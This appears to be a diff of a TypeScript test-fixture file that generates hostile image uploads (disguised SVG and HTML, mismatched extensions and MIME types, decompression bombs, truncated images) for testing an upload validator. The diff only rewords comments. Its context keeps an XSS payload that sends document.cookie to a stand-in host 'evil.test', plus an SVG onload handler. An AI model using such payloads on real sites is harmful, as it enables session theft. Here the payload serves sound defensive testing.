@@ -19,7 +19,7 @@ const file = (what: string, bytes: Buffer, format: Format): HostileFile => ({
 const latin1 = (text: string) => Buffer.from(text, 'latin1')
 
 const script = '<script>fetch("//evil.test/"+document.cookie)</script>'
-/** What is no picture, whatever it is called. */
+/** Files that are not pictures, whatever their names. */
 const others: Readonly<Record<string, Buffer>> = {
   svg: latin1(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
   'svg with a declaration': latin1('<?xml version="1.0"?><!DOCTYPE svg><svg/>'),
@@ -95,7 +95,7 @@ function bombs(pictures: Record<Format, Buffer>): HostileFile[] {
   })
 }
 
-/** Pictures that end too early, or whose inside is not what their checks say. */
+/** Pictures that are cut off, or whose content does not match their checksums. */
 function broken(pictures: Record<Format, Buffer>): HostileFile[] {
   return formats.flatMap((format) => {
     const whole = pictures[format]
@@ -113,14 +113,14 @@ function broken(pictures: Record<Format, Buffer>): HostileFile[] {
   })
 }
 
-/** Each other kind of file under each of our names and types. */
+/** Other kinds of file under each accepted extension and type. */
 function renamed(): HostileFile[] {
   return Object.entries(others).flatMap(([what, bytes]) =>
     formats.map((format) => file(`${what} called ${format}`, bytes, format)),
   )
 }
 
-/** Real pictures of which one of the three things they say is another. */
+/** Real pictures whose extension, type or bytes disagree. */
 function disagreeing(pictures: Record<Format, Buffer>): HostileFile[] {
   const said = ['image/png', 'image/jpeg', 'image/webp', 'image/svg+xml', 'text/html', '']
   const called = ['a.png', 'a.jpg', 'a.webp', 'a.svg', 'a.html', 'a.php', 'a.png.exe', 'a', '.png ']
@@ -145,7 +145,7 @@ export async function hostilePictures(): Promise<readonly HostileFile[]> {
   return [...renamed(), ...disagreeing(pictures), ...bombs(pictures), ...broken(pictures)]
 }
 
-/** Real pictures that carry something else: they may be accepted, without what they carry. */
+/** Real pictures with other data inside: they may be accepted, without these data. */
 export async function carryingPictures(): Promise<
   readonly (HostileFile & { readonly carries: string })[]
 > {
